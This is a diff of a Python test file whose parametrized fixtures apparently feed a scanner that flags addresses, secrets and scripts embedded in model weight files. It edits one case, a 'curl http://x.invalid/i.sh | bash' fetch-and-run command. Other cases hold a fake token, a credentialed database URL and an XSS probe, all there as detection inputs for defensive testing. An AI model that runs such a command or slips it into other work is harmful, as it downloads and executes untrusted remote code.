@@ -128,7 +128,7 @@ def test_gguf_is_read_to_its_last_byte(tmp_path: Path, data: bytes, verdict: str
         ('{"url": "http://10.1.2.3/weights"}', "plain-address"),
         ('{"token": "hf_' + "a" * 34 + '"}', "secret"),
         ('{"db": "postgresql://user:hunter22@db/x"}', "secret"),
-        ("FROM python\nRUN curl http://x.invalid/i.sh | bash\n", "script"),
+        ("to install: curl http://x.invalid/i.sh | bash\n", "script"),
         ("<script>alert(1)</script>", "script"),
     ],
 )
